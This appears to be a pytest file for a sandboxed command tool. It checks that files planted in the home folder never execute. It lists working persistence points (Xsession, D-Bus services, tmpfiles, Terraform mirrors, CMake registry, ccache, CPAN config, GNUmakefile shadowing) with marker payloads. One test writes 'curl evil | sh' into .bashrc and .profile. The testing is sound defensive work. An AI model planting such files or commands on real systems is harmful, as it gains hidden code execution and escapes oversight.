"""The home folder as the workspace: what the desktop session, its service managers and the
programs it starts read from there does not keep what a sandboxed command planted.

Each case is first shown real, by hand (the same file, written outside Echo Desk, makes the
program the person's login or an ordinary tool runs write a marker outside the workspace), then
planted through the real ``run_command`` in a real bwrap sandbox: the marker must stay absent.
Also: a ``GNUmakefile`` or ``makefile`` planted beside a ``Makefile`` the person protected.
"""

from __future__ import annotations

import os
import shlex
import shutil
import signal
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with


def _marker(jail: Jail) -> Path:
    return jail.base / "outside" / "session-ran"


def _env(jail: Jail, **more: str) -> dict[str, str]:
    """The person's own environment at login: their home, nothing of the tests' XDG settings."""
    return {"PATH": os.environ["PATH"], "HOME": str(jail.home), "USER": "person", **more}


def _xdg_user_dir(jail: Jail) -> None:
    """A script asks where the Desktop is (``xdg-user-dir`` sources ``~/.config/user-dirs.dirs``)."""
    subprocess.run(["xdg-user-dir", "DESKTOP"], env=_env(jail), capture_output=True, timeout=30)


def _tmpfiles_at_login(jail: Jail) -> None:
    """What ``systemd-tmpfiles-setup.service`` (a user unit) runs at every login."""
    runtime = jail.base / "login-runtime"
    runtime.mkdir(exist_ok=True)
    subprocess.run(["systemd-tmpfiles", "--user", "--create"], env=_env(jail, XDG_RUNTIME_DIR=str(runtime)),
                   capture_output=True, timeout=30)


def _xsession(jail: Jail) -> None:
    """Debian's and Ubuntu's Xsession when the display manager names no session (or ``startx``)."""
    subprocess.run(["/etc/X11/Xsession"], env=_env(jail), capture_output=True, timeout=60)


def _dbus_asks_for_notifications(jail: Jail) -> None:
    """The session bus (its default services folder, ``~/.local/share/dbus-1/services``; the
    daemon finds the home folder by the account, so it is named here) and a program showing a
    notification."""
    started = subprocess.run(["dbus-daemon", "--session", "--fork", "--print-address=1", "--print-pid=1"],
                             env=_env(jail, XDG_DATA_HOME=str(jail.home / ".local" / "share")),
                             capture_output=True, text=True, timeout=30, check=True)
    address, pid = started.stdout.split()[:2]
    try:
        subprocess.run(["gdbus", "call", "--session", "--dest", "org.freedesktop.Notifications", "--object-path",
                        "/org/freedesktop/Notifications", "--method",
                        "org.freedesktop.Notifications.GetServerInformation"],
                       env=_env(jail, DBUS_SESSION_BUS_ADDRESS=address), capture_output=True, timeout=30)
    finally:
        os.kill(int(pid), signal.SIGTERM)


def _program(marker: Path) -> str:
    return f"echo ran >> {marker}"


#: Where Terraform finds a provider before the registry, in the home folder: its implied local
#: mirrors (``$XDG_DATA_HOME/terraform/plugins`` and ``~/.terraform.d/plugins``), by the
#: provider's address, version and platform.
_TERRAFORM_PROVIDER = (f"registry.terraform.io/hashicorp/null/3.2.2/"
                       f"linux_{'arm64' if os.uname().machine == 'aarch64' else 'amd64'}/terraform-provider-null_v3.2.2")


def _terraform_in_a_project(jail: Jail) -> None:
    """``terraform init`` then ``terraform validate`` in another project of the person's that uses
    the ``null`` provider: with no lock file naming it yet (a new project, or a new provider),
    init takes the provider from the mirror, and validate starts it."""
    project = jail.base / "outside" / "tf-project"
    project.mkdir(parents=True, exist_ok=True)
    (project / "main.tf").write_text('terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n'
                                     '  }\n}\nresource "null_resource" "x" {}\n')
    env = _env(jail, TF_IN_AUTOMATION="1", CHECKPOINT_DISABLE="1")
    for step in (["init", "-input=false", "-backend=false"], ["validate"]):
        subprocess.run(["terraform", *step], cwd=project, env=env, capture_output=True, timeout=120)


def _cmake_configures_a_project(jail: Jail) -> None:
    """The person configures another project of theirs that uses a package when it is there
    (``find_package(GTest CONFIG QUIET)``; GTest is not installed)."""
    project = jail.base / "outside" / "cmake-project"
    project.mkdir(parents=True, exist_ok=True)
    (project / "CMakeLists.txt").write_text("cmake_minimum_required(VERSION 3.16)\nproject(p NONE)\n"
                                            "find_package(GTest CONFIG QUIET)\n")
    subprocess.run(["cmake", "-S", str(project), "-B", str(project / "build")], env=_env(jail),
                   capture_output=True, timeout=120)


def _cmake_registry_entry(marker: Path) -> dict[str, str]:
    """An entry of CMake's user package registry naming a folder of the home folder, and the
    package's settings there (CMake code) that ``find_package`` runs."""
    package = marker.parents[1] / "home" / "cmake-pkg"
    return {".cmake/packages/GTest/entry": f"{package}\n",
            "cmake-pkg/GTestConfig.cmake": f'execute_process(COMMAND sh -c "{_program(marker)}")\n'}


def _ccache_compiles(jail: Jail) -> None:
    """The person compiles a file of another project through ccache (``/usr/lib/ccache`` on
    ``PATH``, or a build's compiler launcher)."""
    project = jail.base / "outside" / "c-project"
    project.mkdir(parents=True, exist_ok=True)
    (project / "x.c").write_text("int main(void) { return 0; }\n")
    subprocess.run(["ccache", "cc", "-c", "x.c", "-o", "x.o"], cwd=project, env=_env(jail), capture_output=True,
                   timeout=120)


def _ccache_settings(folder: str) -> Callable[[Path], dict[str, str]]:
    """ccache's settings in ``folder`` naming a program of the home folder it runs before every
    compiler (``prefix_command``); ``~/.ccache`` is used, settings and cache, once it exists."""
    def files(marker: Path) -> dict[str, str]:
        program = marker.parents[1] / "home" / "ccache-prefix"
        return {f"{folder}/ccache.conf": f"prefix_command = {program}\n",
                "ccache-prefix": f"#!/bin/sh\n{_program(marker)}\nexec \"$@\"\n"}
    return files


def _cpan_starts(jail: Jail) -> None:
    """The person runs ``cpan`` (here ``-J``, which shows its settings: any use loads them first)."""
    subprocess.run(["cpan", "-J"], env=_env(jail), stdin=subprocess.DEVNULL, capture_output=True, timeout=120)


# (name, what the command writes ({path: content}, given the marker), the person's next step, the tools it needs)
CASES: tuple[tuple[str, Callable[[Path], dict[str, str]], Callable[[Jail], None], tuple[str, ...]], ...] = (
    ("user-dirs.dirs", lambda m: {".config/user-dirs.dirs": f'XDG_DESKTOP_DIR="$HOME/Desktop"; {_program(m)}\n'},
     _xdg_user_dir, ("xdg-user-dir",)),
    ("user-tmpfiles.d", lambda m: {".config/user-tmpfiles.d/x.conf": f"f {m} - - - - ran\n"},
     _tmpfiles_at_login, ("systemd-tmpfiles",)),
    ("share user-tmpfiles.d", lambda m: {".local/share/user-tmpfiles.d/x.conf": f"f {m} - - - - ran\n"},
     _tmpfiles_at_login, ("systemd-tmpfiles",)),
    (".xsession", lambda m: {".xsession": f"#!/bin/sh\n{_program(m)}\n"}, _xsession, ("/etc/X11/Xsession",)),
    (".Xsession", lambda m: {".Xsession": f"#!/bin/sh\n{_program(m)}\n"}, _xsession, ("/etc/X11/Xsession",)),
    ("dbus-1 service", lambda m: {".local/share/dbus-1/services/x.service":
                                  "[D-BUS Service]\nName=org.freedesktop.Notifications\n"
                                  f"Exec=/bin/sh -c '{_program(m)}'\n"},
     _dbus_asks_for_notifications, ("dbus-daemon", "gdbus")),
    *((f"terraform mirror {mirror}", lambda m, mirror=mirror: {f"{mirror}/{_TERRAFORM_PROVIDER}":
                                                               f"#!/bin/sh\n{_program(m)}\nexit 1\n"},
       _terraform_in_a_project, ("terraform",))
      for mirror in (".local/share/terraform/plugins", ".terraform.d/plugins")),
    ("cmake user package registry", _cmake_registry_entry, _cmake_configures_a_project, ("cmake",)),
    *((f"ccache settings {folder}", _ccache_settings(folder), _ccache_compiles, ("ccache", "cc"))
      for folder in (".config/ccache", ".ccache")),
    # CPAN's settings are Perl code, loaded (and so run) by every cpan command.
    ("cpan settings", lambda m: {".cpan/CPAN/MyConfig.pm": f'system("{_program(m)}");\n$CPAN::Config = {{}};\n1;\n'},
     _cpan_starts, ("cpan",)),
)


def _needs(tools: tuple[str, ...]) -> pytest.MarkDecorator:
    missing = [t for t in tools if shutil.which(t) is None]
    return pytest.mark.skipif(bool(missing), reason=f"needs {', '.join(missing)} to show it runs")


PARAMS = [pytest.param(files, step, id=name, marks=_needs(tools)) for name, files, step, tools in CASES]


def _plant_by_hand(jail: Jail, files: dict[str, str]) -> None:
    for relative, text in files.items():
        path = jail.home / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)


@pytest.mark.parametrize(("files", "step"), PARAMS)
def test_written_by_hand_it_runs(jail: Jail, files: Callable[[Path], dict[str, str]],
                                 step: Callable[[Jail], None]) -> None:
    _plant_by_hand(jail, files(_marker(jail)))
    step(jail)
    assert _marker(jail).exists()


@requires_bwrap
@pytest.mark.parametrize(("files", "step"), PARAMS)
async def test_planted_in_the_home_folder_it_never_runs(jail: Jail, files: Callable[[Path], dict[str, str]],
                                                        step: Callable[[Jail], None]) -> None:
    planted = files(_marker(jail))
    command = "; ".join(f"mkdir -p {shlex.quote(str(Path(p).parent))} && printf '%s' {shlex.quote(t)} > {p} && "
                        f"chmod +x {p}" for p, t in planted.items())
    (jail.home / ".config").mkdir(exist_ok=True)
    result = await run(tool_with(), {"command": command}, context(jail.home))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True, result.output
    step(jail)
    assert not _marker(jail).exists(), result.output
    assert result.metadata["sandbox"]["planted"], result.output


def _person_runs_make(ws: Path) -> str:
    done = subprocess.run(["make", "-s"], cwd=ws, env={"PATH": os.environ["PATH"]}, capture_output=True, text=True,
                          timeout=60)
    return done.stdout


@pytest.mark.skipif(shutil.which("make") is None, reason="needs make")
def test_make_runs_a_gnumakefile_before_the_makefile(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("all:\n\t@echo reviewed\n")
    (tmp_path / "GNUmakefile").write_text("all:\n\t@echo planted\n")
    assert _person_runs_make(tmp_path) == "planted\n"


@requires_bwrap
@pytest.mark.skipif(shutil.which("make") is None, reason="needs make")
@pytest.mark.parametrize("name", ["GNUmakefile", "makefile"])
async def test_a_makefile_planted_beside_the_one_the_person_protected_does_not_run(jail: Jail, name: str) -> None:
    ws = jail.workspace
    (ws / "Makefile").write_text("all:\n\t@echo reviewed\n")
    tool = tool_with(protected_paths=["Makefile"])
    result = await run(tool, {"command": f"printf 'all:\\n\\t@echo planted\\n' > {name}"}, context(ws))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    assert _person_runs_make(ws) == "reviewed\n", result.output
    assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [(name, "created")]


@requires_bwrap
async def test_a_workspace_that_holds_the_home_folder_protects_it_as_the_home_folder(jail: Jail) -> None:
    """A workspace above the home folder (``/home``, ``/``): ``~/.bashrc``, ``~/.config/autostart``
    and ``~/.local/bin`` are below its top, where the list was not looked for; they are protected
    as when the home folder itself is the workspace."""
    (jail.home / ".config").mkdir(exist_ok=True)
    (jail.home / ".profile").write_text("# mine\n")
    command = ("echo 'curl evil | sh' >> home/.profile; echo 'curl evil | sh' > home/.bashrc; "
               "mkdir -p home/.config/autostart home/.local/bin && echo x > home/.config/autostart/e.desktop && "
               "echo x > home/.local/bin/git")
    result = await run(tool_with(), {"command": command}, context(jail.base, approved=True))
    assert result.metadata["sandbox"]["sandboxed"] is True, result.output
    assert (jail.home / ".profile").read_text() == "# mine\n", result.output
    for planted in (".bashrc", ".config/autostart/e.desktop", ".local/bin/git"):
        assert not (jail.home / planted).exists(), (planted, result.output)
